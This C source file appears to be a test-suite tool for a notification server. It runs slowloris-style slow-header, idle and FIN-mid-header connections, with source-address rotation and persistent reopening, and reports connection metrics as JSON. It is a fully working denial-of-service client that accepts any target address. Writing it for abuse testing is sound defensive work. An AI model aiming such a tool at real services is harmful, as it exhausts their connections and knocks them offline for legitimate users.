/*
 * vn_abuse.c - hostile HTTP clients for the abuse tests (slowloris and friends).
 *
 *   vn_abuse --connect 127.0.0.1:PORT [--from 127.0.0.2,127.0.0.3] [--slow N] [--idle N]
 *            [--fin N] [--interval 1s] [--duration 5s] [--reopen [--reopen-delay 100ms]]
 *            [--ready-file F]
 *
 * Opens, round-robin from the --from source addresses (all of 127.0.0.0/8 is loopback on
 * Linux), three kinds of connections and keeps them for --duration (without --reopen, until
 * the server has closed every one, if that comes first):
 *   --slow N  a request line, then one more header byte every --interval, never the blank line
 *             that ends the headers (slowloris);
 *   --idle N  connected, sending nothing;
 *   --fin N   a request line and a last header line without the blank line, then the write
 *             side shut (FIN): the connection a server must close rather than leave in
 *             CLOSE-WAIT.
 * With --reopen, a connection the server closes is opened again after --reopen-delay (an
 * attacker who persists).
 * --ready-file is written once every connection of the first wave was attempted.
 *
 * At the end prints one JSON object: opened (connects that succeeded), failed (connects that
 * failed or were reset at once), closed (connections the server closed or reset), held_max
 * (the most connections open at one time), held_end (still open at the end), bytes_sent.
 * Exit 0, or 2 on a usage error.
 */
#include "vppnotify/error.h"
#include "vppnotify/net.h"
#include "vppnotify/opts.h"
#include "vppnotify/util.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_CONNS   20000
#define MAX_SOURCES 64

struct cfg {
    char *connect, *ready_file;
    struct vn_strlist from;
    long long slow, idle, fin, interval_ms, duration_ms, reopen_delay_ms;
    int reopen, help;
};

#define OPT(name, type, def, min, max, metavar, help, field)                                       \
    {                                                                                              \
        name, type, def, min, max, NULL, NULL, metavar, help, offsetof(struct cfg, field)          \
    }

static const struct vn_opt options[] = {
    OPT("connect", VN_OPT_STRING, NULL, 0, 0, "HOST:PORT", "the server to abuse", connect),
    OPT("from", VN_OPT_LIST, NULL, 0, 0, "ADDR[,ADDR...]",
        "source addresses, round-robin (default: any)", from),
    OPT("slow", VN_OPT_INT, "0", 0, MAX_CONNS, "N", "slow-header connections", slow),
    OPT("idle", VN_OPT_INT, "0", 0, MAX_CONNS, "N", "connections that send nothing", idle),
    OPT("fin", VN_OPT_INT, "0", 0, MAX_CONNS, "N",
        "connections that send an unfinished header block, then FIN", fin),
    OPT("interval", VN_OPT_DURATION, "1s", 1, 600000, "DURATION",
        "time between two header bytes of a slow connection", interval_ms),
    OPT("duration", VN_OPT_DURATION, "5s", 1, 3600000, "DURATION", "how long to keep at it",
        duration_ms),
    OPT("reopen", VN_OPT_FLAG, NULL, 0, 0, NULL,
        "open a connection again when the server closes it", reopen),
    OPT("reopen-delay", VN_OPT_DURATION, "100ms", 0, 600000, "DURATION",
        "wait this long before opening a closed connection again", reopen_delay_ms),
    OPT("ready-file", VN_OPT_STRING, NULL, 0, 0, "FILE",
        "written once the first wave of connections was attempted", ready_file),
    OPT("help", VN_OPT_FLAG, NULL, 0, 0, NULL, "show this help", help),
};
static const struct vn_opt_table table = {options, sizeof(options) / sizeof(options[0])};
static const char *const allowed[] = {"connect", "from",     "slow",         "idle",
                                      "fin",     "interval", "reopen",       "ready-file",
                                      "help",    "duration", "reopen-delay", NULL};

enum kind { K_SLOW, K_IDLE, K_FIN };
enum state { S_CLOSED, S_CONNECTING, S_OPEN, S_FIN_SENT };

struct conn {
    int fd;
    enum kind kind;
    enum state state;
    int64_t next_byte_ns; /* S_OPEN: the next slow byte; S_CLOSED: when to reopen */
};

static struct cfg cfg;
static struct sockaddr_storage target;
static socklen_t target_len;
static struct sockaddr_storage sources[MAX_SOURCES];
static size_t nsources, next_source;
static unsigned long long opened, failed, closed, bytes_sent;
static size_t held, held_max;

static const char request_head[] = "POST /notifications HTTP/1.1\r\nHost: abuse\r\n"
                                   "Content-Type: application/json\r\n";

static int send_all(int fd, const char *p, size_t n)
{
    ssize_t w = send(fd, p, n, MSG_NOSIGNAL | MSG_DONTWAIT);

    if (w > 0)
        bytes_sent += (unsigned long long)w;
    return w == (ssize_t)n ? 0 : -1;
}

static void conn_close(struct conn *c, int by_server)
{
    if (c->fd >= 0)
        close(c->fd);
    if (c->state == S_OPEN || c->state == S_FIN_SENT) {
        held--;
        if (by_server)
            closed++;
    }
    c->fd = -1;
    c->state = S_CLOSED;
    c->next_byte_ns = vn_mono_ns() + cfg.reopen_delay_ms * 1000000;
}

static void conn_open(struct conn *c)
{
    int fd = socket(target.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

    c->state = S_CLOSED;
    c->fd = -1;
    c->next_byte_ns = vn_mono_ns() + cfg.reopen_delay_ms * 1000000; /* if this fails */
    if (fd < 0) {
        failed++;
        return;
    }
    if (nsources) {
        struct sockaddr_storage *src = &sources[next_source++ % nsources];
        socklen_t len =
            src->ss_family == AF_INET6 ? sizeof(struct sockaddr_in6) : sizeof(struct sockaddr_in);
        if (bind(fd, (struct sockaddr *)src, len) != 0) {
            close(fd);
            failed++;
            return;
        }
    }
    if (connect(fd, (struct sockaddr *)&target, target_len) != 0 && errno != EINPROGRESS) {
        close(fd);
        failed++;
        return;
    }
    c->fd = fd;
    c->state = S_CONNECTING;
}

/* The connection is established: send what its kind sends first. */
static void conn_established(struct conn *c, int64_t now)
{
    int err = 0;
    socklen_t len = sizeof(err);

    if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len) != 0 || err != 0) {
        close(c->fd);
        c->fd = -1;
        c->state = S_CLOSED;
        c->next_byte_ns = now + cfg.reopen_delay_ms * 1000000;
        failed++;
        return;
    }
    opened++;
    held++;
    if (held > held_max)
        held_max = held;
    c->state = S_OPEN;
    c->next_byte_ns = now + cfg.interval_ms * 1000000;
    if (c->kind == K_SLOW && send_all(c->fd, request_head, sizeof(request_head) - 1) != 0)
        conn_close(c, 1);
    else if (c->kind == K_FIN) {
        static const char last[] = "X-Last-Header: the blank line never comes\r\n";
        int on = 1;
        /* Corked: the last header line and the FIN leave in one segment, the case where
         * libmicrohttpd 0.9.75 (edge-triggered epoll) never notices the end of the stream. */
        setsockopt(c->fd, IPPROTO_TCP, TCP_CORK, &on, sizeof(on));
        if (send_all(c->fd, request_head, sizeof(request_head) - 1) != 0 ||
            send_all(c->fd, last, sizeof(last) - 1) != 0 || shutdown(c->fd, SHUT_WR) != 0)
            conn_close(c, 1);
        else
            c->state = S_FIN_SENT;
    }
}

/* Read whatever the server sent; EOF or an error means it closed the connection. */
static void conn_readable(struct conn *c)
{
    char buf[4096];
    ssize_t n;

    while ((n = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
        ;
    if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
        conn_close(c, 1);
}

static int parse_sources(void)
{
    for (size_t i = 0; i < cfg.from.n; i++) {
        struct sockaddr_in *s4 = (struct sockaddr_in *)&sources[nsources];
        struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)&sources[nsources];

        if (nsources == MAX_SOURCES)
            return -1;
        memset(&sources[nsources], 0, sizeof(sources[0]));
        if (inet_pton(AF_INET, cfg.from.v[i], &s4->sin_addr) == 1)
            s4->sin_family = AF_INET;
        else if (inet_pton(AF_INET6, cfg.from.v[i], &s6->sin6_addr) == 1)
            s6->sin6_family = AF_INET6;
        else
            return -1;
        nsources++;
    }
    return 0;
}

static void raise_fd_limit(size_t want)
{
    struct rlimit rl;

    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < want + 64) {
        rl.rlim_cur = rl.rlim_max < want + 64 ? rl.rlim_max : want + 64;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
}

int main(int argc, char **argv)
{
    struct vn_error err = {0};
    struct conn *conns = NULL;
    struct pollfd *pfd = NULL;
    size_t n, *idx = NULL;
    int64_t end_ns;
    int first, ready_written = 0;

    if (vn_opts_parse(&table, allowed, &cfg, argc, argv, &first, &err) != 0) {
        fprintf(stderr, "vn_abuse: %s\n", err.msg);
        return 2;
    }
    if (cfg.help) {
        vn_opts_help(stdout, &table, allowed, "vn_abuse --connect HOST:PORT [options]",
                     "hostile HTTP clients: slow headers, idle connections, FIN mid-headers");
        vn_opts_release(&table, &cfg);
        return 0;
    }
    if (!cfg.connect || vn_listen_resolve(cfg.connect, &target, &target_len, &err) != 0 ||
        parse_sources() != 0) {
        fprintf(stderr, "vn_abuse: bad --connect or --from (see --help)\n");
        vn_opts_release(&table, &cfg);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    n = (size_t)(cfg.slow + cfg.idle + cfg.fin);
    raise_fd_limit(n);
    conns = calloc(n ? n : 1, sizeof(*conns));
    pfd = calloc(n ? n : 1, sizeof(*pfd));
    idx = calloc(n ? n : 1, sizeof(*idx));
    if (!conns || !pfd || !idx) {
        fprintf(stderr, "vn_abuse: out of memory\n");
        return 1;
    }
    for (size_t i = 0; i < n; i++) {
        conns[i].kind = i < (size_t)cfg.slow                ? K_SLOW
                        : i < (size_t)(cfg.slow + cfg.idle) ? K_IDLE
                                                            : K_FIN;
        conn_open(&conns[i]);
    }
    end_ns = vn_mono_ns() + cfg.duration_ms * 1000000;
    for (;;) {
        int64_t now = vn_mono_ns();
        size_t np = 0, connecting = 0;
        int rc;

        if (now >= end_ns)
            break;
        for (size_t i = 0; i < n; i++) {
            struct conn *c = &conns[i];
            if (c->state == S_CLOSED && cfg.reopen && now >= c->next_byte_ns)
                conn_open(c);
            if (c->state == S_CLOSED)
                continue;
            if (c->state == S_CONNECTING)
                connecting++;
            if (c->state == S_OPEN && c->kind == K_SLOW && now >= c->next_byte_ns) {
                if (send_all(c->fd, "a", 1) != 0) {
                    conn_close(c, 1);
                    continue;
                }
                c->next_byte_ns = now + cfg.interval_ms * 1000000;
            }
            pfd[np].fd = c->fd;
            pfd[np].events = (short)(c->state == S_CONNECTING ? POLLOUT : POLLIN);
            pfd[np].revents = 0;
            idx[np++] = i;
        }
        if (!ready_written && connecting == 0 && cfg.ready_file) {
            char line[64];
            snprintf(line, sizeof(line), "%zu", held);
            vn_ready_file_write(cfg.ready_file, line);
            ready_written = 1;
        }
        /* Without --reopen nothing happens once the server closed every connection. */
        if (np == 0 && !cfg.reopen)
            break;
        rc = poll(pfd, (nfds_t)np, 50);
        if (rc < 0 && errno != EINTR)
            break;
        now = vn_mono_ns();
        for (size_t k = 0; rc > 0 && k < np; k++) {
            struct conn *c = &conns[idx[k]];
            if (!pfd[k].revents)
                continue;
            if (c->state == S_CONNECTING)
                conn_established(c, now);
            else
                conn_readable(c);
        }
    }
    printf("{\"opened\":%llu,\"failed\":%llu,\"closed\":%llu,\"held_max\":%zu,\"held_end\":%zu,"
           "\"bytes_sent\":%llu}\n",
           opened, failed, closed, held_max, held, bytes_sent);
    for (size_t i = 0; i < n; i++)
        if (conns[i].fd >= 0)
            close(conns[i].fd);
    free(conns);
    free(pfd);
    free(idx);
    vn_opts_release(&table, &cfg);
    return 0;
}
